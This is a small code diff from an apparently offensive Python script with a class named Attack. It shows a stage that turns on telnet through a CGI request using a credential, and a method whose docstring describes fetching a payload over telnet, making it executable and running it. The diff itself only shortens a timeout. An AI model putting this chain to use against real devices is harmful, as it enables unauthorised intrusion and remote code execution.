@@ -65,7 +65,7 @@ class Attack:
         status, _, text = self._get("/cgi-bin/service.cgi?telnet=on", credential)
         return Stage("login", status == 200 and "telnet is on" in text, f"status {status}: {text.strip()[:60]}")
 
-    def program(self, seconds=3):
+    def program(self, seconds=2):
         """Over telnet: fetch, make it a program, run it. It fell when the attacker's own server heard of it."""
         session, deadline = None, time.monotonic() + seconds
         while not session and time.monotonic() < deadline:
